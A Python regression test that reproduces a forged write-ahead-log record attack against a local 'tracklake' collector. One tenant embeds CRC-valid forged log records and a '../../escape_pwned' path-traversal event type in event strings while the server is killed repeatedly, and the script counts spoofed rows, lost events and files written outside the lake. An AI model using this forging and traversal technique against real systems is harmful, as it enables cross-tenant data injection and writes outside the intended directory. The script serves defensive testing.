#!/usr/bin/env python3
"""The forged write-ahead-log record attack of issue 22, as a reusable run with figures.

App `other` sends valid events whose string value is a run of byte sequences laid out exactly as
log records (CRC-32C, length, type, a sequence number far above the log's, an event payload with
app_id = demo and event_type "pwn" or "../../escape_pwned"), 20 such events per request from 2
threads, while app `demo` sends ordinary events and keeps the ids of those acknowledged. The
collector runs with wal.direct_io as asked, 1 MiB segments, a 16 MiB log, flush.max_age = 1, and is
killed with kill -9 every 1-3 s and restarted; at the end it is restarted and stopped cleanly, and
everything under the run's directory is read back.

Figures: forged rows anywhere (lake or not), demo rows demo never sent, files outside the lake,
demo's acknowledged events lost, how often recovery skipped damaged bytes, and how often the attack
was aimed: a recycled segment, at a kill, whose own records are followed right away by a forged one
(summed over kills; a segment still there at the next kill counts again).

  tests/wal_attack.py --bin build/release/bin/tracklake --rounds 30 --io both [--seed 1] [--json out.json]

tests/e2e/test_wal_forgery.py runs it for a bounded number of rounds in both I/O modes.
"""
import argparse
import itertools
import json
import random
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import requests

DEMO_KEY = "demo-write-key"
OTHER_KEY = "other-write-key"
FORGED_PREFIX = "forged-"
# 2022-03-12T18:00:30.464Z: every byte of it, little-endian, is below 0x80, so the forged records
# stay ASCII and travel in a JSON string (control bytes as \u00XX escapes, unescaped by the server).
FORGED_RECEIVED_AT = 1647108030464
FORGED_SEQ = 1 << 40  # far above any log's; ASCII bytes for the first 128 records
ATTACK_PAUSE = 0.1  # between one attacker request and its next, per thread

_POLY = 0x82F63B78
_TABLE = []
for _n in range(256):
    _c = _n
    for _ in range(8):
        _c = (_c >> 1) ^ _POLY if _c & 1 else _c >> 1
    _TABLE.append(_c)


def crc32c(data: bytes, crc: int = 0) -> int:
    crc ^= 0xFFFFFFFF
    for b in data:
        crc = _TABLE[(crc ^ b) & 0xFF] ^ (crc >> 8)
    return crc ^ 0xFFFFFFFF


def mask(crc: int) -> int:
    return (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF


def event_payload(event_type: str, event_id: str) -> bytes:
    """An event record (src/event/event_record.h) as the validator writes it, app_id = demo."""
    fields = [(b"event_type", event_type.encode()), (b"event_id", event_id.encode()), (b"app_id", b"demo")]
    out = struct.pack("<BBqqH", 1, 1, FORGED_RECEIVED_AT, FORGED_RECEIVED_AT, len(fields))
    for k, v in fields:
        out += bytes([len(k)]) + k + bytes([len(v)]) + v
    return out


ESCAPE_TYPE = "../../escape_pwned"
PLAIN_TYPE = "pwn"


def forge(seq: int, event_type: str, event_id: str, layout: int) -> bytes:
    """One record in format 1 (CRC of type, seq, payload) or in format 2's layout with a guessed salt
    of 0 (CRC from the salt's, over length, type, seq, payload); the event id (padded so that every
    forged record has the same length) is varied until the masked CRC is ASCII too. None of a
    format-2 segment's salt is known to the sender."""
    pad = "_" * (len(ESCAPE_TYPE) - len(event_type))
    for attempt in range(10_000):
        payload = event_payload(event_type, f"{event_id}.{attempt:04d}{pad}")
        covered = struct.pack("<IBQ", len(payload), 1, seq)
        if layout == 1:
            crc = crc32c(covered[4:] + payload)
        else:
            crc = crc32c(covered + payload, crc32c(bytes(8)))
        record = struct.pack("<I", mask(crc)) + covered + payload
        if all(b < 0x80 for b in record):
            return record
    raise AssertionError("no ASCII record found")


# The attacker's own event, as the log holds it: everything before the value, in bytes (record
# header 17, event record header 20, then event_type "note", event_id "atk-000000", app_id
# "other" and key "v", each with one-byte lengths, and the value's two-byte length).
ATTACK_EVENT_ID = "atk-000000"
ATTACK_IDS = itertools.count()
BEFORE_VALUE = 17 + 20 + (1 + 10 + 1 + 4) + (1 + 8 + 1 + len(ATTACK_EVENT_ID)) + (1 + 6 + 1 + 5) + (1 + 1) + 2


def forged_value(serial: int, records: int = 100) -> str:
    """A run of back-to-back forged records with rising sequence numbers, as one JSON string. All
    forged records have one length P, and the value is padded so that they start at multiples of P
    from the start of the attacker's own record, whose length is a multiple of P too: where a
    segment holds only the attacker's records, in both the generation that wrote it before and the
    one writing it now, every record boundary of the new generation falls on the start of a forged
    record of the old one, or on an old record's start."""
    run = b""
    for i in range(records):
        event_type = PLAIN_TYPE if i % 2 == 0 else ESCAPE_TYPE
        layout = 1 if i < records * 3 // 4 else 2
        run += forge(FORGED_SEQ + i, event_type, f"{FORGED_PREFIX}{serial:02d}-{i:03d}", layout)
    period = len(run) // records
    assert len(run) == period * records, "forged records of different lengths"
    lead = -BEFORE_VALUE % period
    return ("a" * lead + run.decode("ascii"))


def is_forged_record(data: bytes) -> bool:
    """Whether data starts with one of the attacker's records (either layout, CRC checked)."""
    if len(data) < 17:
        return False
    crc, length, rtype, seq = struct.unpack_from("<IIBQ", data)
    payload = data[17:17 + length]
    if rtype != 1 or len(payload) != length or b"forged-" not in payload:
        return False
    covered = data[4:17] + payload
    return crc in (mask(crc32c(covered[4:])), mask(crc32c(covered, crc32c(bytes(8)))))


def forged_where_recovery_looks(wal_dir: Path) -> int:
    """Recycled segments whose own records (walked by length and sequence number, either format)
    are followed right away by a forged record: the attack was aimed where recovery reads."""
    aimed = 0
    for path in wal_dir.glob("*.r.wal"):
        data = path.read_bytes()
        expect = int(path.name[:20])
        pos = 32 if data.startswith(b"TLWALSEG") else 0
        while pos + 17 <= len(data):
            length, rtype, seq = struct.unpack_from("<IBQ", data, pos + 4)
            if rtype not in (1, 2, 3) or seq != expect or pos + 17 + length > len(data):
                break
            pos += 17 + length
            expect += 1
        aimed += is_forged_record(data[pos:pos + 4096])
    return aimed


def config_text(root: Path, direct_io: bool) -> str:
    return f"""
[node]
id = "attack"

[server]
listen = "127.0.0.1:0"
threads = 2

[wal]
dir = "{root / 'data' / 'wal'}"
direct_io = {'true' if direct_io else 'false'}
segment_bytes = "1MiB"
max_bytes = "16MiB"

[flush]
max_age = 1

[lake]
dir = "{root / 'lake'}"
format = "parquet"

[auth]
mode = "keys"

[apps.demo]
key = "{DEMO_KEY}"

[apps.other]
key = "{OTHER_KEY}"
"""


class Run:
    """One collector over root, started and killed as the attack needs."""

    def __init__(self, binary: str, root: Path, direct_io: bool):
        self.binary = binary
        self.root = root
        self.config = root / "tracklake.toml"
        self.config.write_text(config_text(root, direct_io))
        self.log_path = root / "serve.log"
        self.proc = None
        self.url = None

    def start(self):
        port_file = self.root / "port"
        port_file.unlink(missing_ok=True)
        env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("TRACKLAKE_")}
        self.log = open(self.log_path, "ab")
        self.proc = subprocess.Popen([self.binary, "serve", "--config", str(self.config), "--port-file", str(port_file)],
                                     cwd=self.root, stdout=self.log, stderr=subprocess.STDOUT, env=env)
        deadline = time.monotonic() + 60
        while not port_file.exists() and self.proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.02)
        if not port_file.exists():
            raise AssertionError(f"collector did not start:\n{self.log_path.read_text()[-3000:]}")
        self.url = f"http://127.0.0.1:{int(port_file.read_text())}/v1/events"

    def kill9(self):
        self.proc.kill()
        self.proc.wait()
        self.log.close()

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        rc = self.proc.wait(timeout=120)
        self.log.close()
        return rc


def demo_load(run, stop, acked, serial, rng, interval=1.0, batch=50):
    session = requests.Session()
    i = 0
    while not stop.is_set():
        events = [{"event_type": "page_view", "event_id": f"demo-{serial}-{i}-{j}",
                   "v": "x" * rng.randrange(200)} for j in range(batch)]
        i += 1
        try:
            r = session.post(run.url, data=json.dumps(events), timeout=30,
                             headers={"Authorization": f"Bearer {DEMO_KEY}", "Content-Type": "application/json"})
        except requests.RequestException:
            return  # killed mid-request: never acknowledged
        if r.status_code == 200:
            acked.update(e["event_id"] for e in events)
        time.sleep(interval)


def attacker_load(run, stop, values, counts, rng):
    session = requests.Session()
    while not stop.is_set():
        # A fresh id per event, of ATTACK_EVENT_ID's length (the layout above counts on it): the
        # collector drops an (app_id, event_id) it accepted before, so one repeated id would leave
        # the log nothing of the attacker's to recycle.
        events = [{"event_type": "note", "event_id": f"atk-{next(ATTACK_IDS) % 1_000_000:06d}", "v": rng.choice(values)}
                  for _ in range(20)]
        try:
            r = session.post(run.url, data=json.dumps(events), timeout=30,
                             headers={"Authorization": f"Bearer {OTHER_KEY}", "Content-Type": "application/json"})
        except requests.RequestException:
            return
        if r.status_code == 200:
            counts["attacker_events_acked"] += 20
        time.sleep(ATTACK_PAUSE)


def read_rows(path: Path):
    import pyarrow.parquet as pq
    table = pq.read_table(path, columns=["event_id", "app_id"], partitioning=None)
    return zip(table.column("event_id").to_pylist(), table.column("app_id").to_pylist())


def attack(binary: str, workdir: Path, rounds: int, direct_io: bool, seed: int = 1, kill_every=(1.0, 3.0)) -> dict:
    """Runs the attack under workdir (which must be empty or absent); returns the figures."""
    rng = random.Random(seed)
    root = workdir / "box" / "collector"  # "../../escape_pwned" from the lake lands in workdir/box
    root.mkdir(parents=True)
    run = Run(binary, root, direct_io)
    # Runs of different lengths: the records of two generations of a segment then end at different
    # places, and one generation's record boundaries fall inside the other's runs.
    values = [forged_value(serial, records) for serial, records in enumerate((100, 93, 87, 79, 71, 64))]
    acked = set()
    counts = {"attacker_events_acked": 0}
    recycled_at_kill = []
    aimed_at_kill = []
    for round_ in range(rounds):
        run.start()
        stop = threading.Event()
        threads = [threading.Thread(target=demo_load, args=(run, stop, acked, round_, random.Random(rng.random())))]
        threads += [threading.Thread(target=attacker_load, args=(run, stop, values, counts, random.Random(rng.random())))
                    for _ in range(2)]
        for t in threads:
            t.start()
        time.sleep(rng.uniform(*kill_every))
        run.kill9()
        recycled_at_kill.append(len(list((root / "data" / "wal").glob("*.r.wal"))))
        aimed_at_kill.append(forged_where_recovery_looks(root / "data" / "wal"))
        stop.set()
        for t in threads:
            t.join()
    run.start()
    rc = run.stop()

    lake, wal = root / "lake", root / "data" / "wal"
    own = {run.config, run.log_path, root / "port"}
    outside = [p for p in workdir.rglob("*") if p.is_file() and p not in own
               and lake not in p.parents and wal not in p.parents]
    lake_ids = set()
    forged_rows = demo_rows_not_sent = unreadable = 0
    for p in list(lake.rglob("*.parquet")) + [p for p in outside if p.suffix == ".parquet"]:
        try:
            rows = list(read_rows(p))
        except Exception:  # noqa: BLE001 - a file no reader can open counts, whatever the reason
            unreadable += 1
            continue
        for event_id, app_id in rows:
            lake_ids.add(event_id)
            forged_rows += event_id.startswith(FORGED_PREFIX)
            demo_rows_not_sent += app_id == "demo" and not event_id.startswith("demo-")
    log = run.log_path.read_text(errors="replace")
    skipped = [int(m) for m in re.findall(r"has (\d+) damaged or torn bytes", log)]
    return {
        "io": "direct" if direct_io else "page cache",
        "rounds": rounds,
        "clean_stop_rc": rc,
        "recycled_segments_at_kills": sum(recycled_at_kill),
        "forged_record_where_recovery_looks": sum(aimed_at_kill),
        "attacker_events_acked": counts["attacker_events_acked"],
        "demo_events_acked": len(acked),
        "demo_events_lost": len(acked - lake_ids),
        "forged_rows": forged_rows,
        "demo_rows_not_sent_by_demo": demo_rows_not_sent,
        "files_outside_lake": len(outside),
        "outside_examples": [str(p.relative_to(workdir)) for p in outside[:3]],
        "unreadable_lake_files": unreadable,
        "recoveries_skipping_bytes": len(skipped),
        "bytes_skipped": sum(skipped),
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--bin", required=True, help="the tracklake binary to attack")
    ap.add_argument("--rounds", type=int, default=30, help="kill -9 rounds per I/O mode")
    ap.add_argument("--io", choices=["buffered", "direct", "both"], default="both")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--json", help="also write the figures here")
    ap.add_argument("--keep", action="store_true", help="keep the run's directory")
    args = ap.parse_args()
    modes = {"buffered": [False], "direct": [True], "both": [False, True]}[args.io]
    results = []
    for direct in modes:
        work = Path(tempfile.mkdtemp(prefix="wal-attack-"))
        try:
            r = attack(str(Path(args.bin).resolve()), work, args.rounds, direct, args.seed)
        finally:
            if not args.keep:
                shutil.rmtree(work, ignore_errors=True)
        results.append(r)
        print(json.dumps(r), flush=True)
    if args.json:
        Path(args.json).write_text(json.dumps(results, indent=2) + "\n")
    bad = any(r["forged_rows"] or r["files_outside_lake"] or r["demo_events_lost"] or r["demo_rows_not_sent_by_demo"]
              for r in results)
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
